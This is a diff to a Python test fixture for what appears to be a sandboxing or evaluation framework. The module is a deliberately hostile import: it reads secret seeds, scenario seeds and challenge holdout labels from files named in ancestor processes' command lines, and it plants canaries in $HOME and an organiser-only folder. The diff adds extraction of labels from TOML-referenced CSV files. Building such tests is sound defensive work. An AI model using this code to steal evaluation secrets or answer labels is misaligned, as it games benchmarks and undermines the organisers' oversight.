@@ -1,6 +1,6 @@
 """An attack whose module-level code is hostile, for the tests of untrusted imports: run when
 the module is imported, it steals what the command lines of its process and its ancestors
-name (a secret-seed file, a scenario's seed, a labels file), writes what it stole into its
+name (a secret-seed file, a scenario's seed, a challenge file's labels), writes what it stole into its
 own source file (which the sandbox later shows its attack process), and writes canaries into
 its own folder, ladderlab's package folder and ``$HOME``, and a marker into
 ``organiser-only/`` beside itself, a folder that only the organiser's processes can write.
@@ -14,6 +14,7 @@ are named after that folder, and the marker folder is made there.
 """
 
 import contextlib
+import csv
 import os
 import re
 import sys
@@ -61,11 +62,22 @@ def _steal() -> list[str]:
             text = path.read_text()
             if re.fullmatch(r"\d{20,}\s*", text):
                 stolen.append(f"secret {text.strip()}")
-            elif path.suffix == ".toml":
-                stolen.append(f"seed {int(tomllib.loads(text).get('seed', 0))}")
+            elif path.suffix == ".toml":  # a scenario's seed, or a challenge file's labels
+                table = tomllib.loads(text)
+                labels = table.get("labels", {}).get("file") if isinstance(table.get("labels"), dict) else None
+                stolen += _labels(path.parent / labels) if isinstance(labels, str) else []
+                stolen.append(f"seed {int(table.get('seed', 0))}")
             elif path.suffix == ".csv":
-                stolen.append("labels " + " ".join(line.split(",")[-1].strip() for line in text.splitlines()[1:]))
+                stolen += _labels(path)
     return stolen
+
+
+def _labels(path: Path) -> list[str]:
+    """A labels file's ``label`` column in the order of its ``id`` column (a challenge's holdout order)."""
+    with contextlib.suppress(OSError, ValueError, KeyError), open(path, newline="") as file:
+        rows = sorted(csv.DictReader(file), key=lambda row: float(row["id"]))
+        return ["labels " + " ".join(row["label"] for row in rows)]
+    return []
 
 
 def _write(path: Path, text: str, mode: str = "w") -> None:
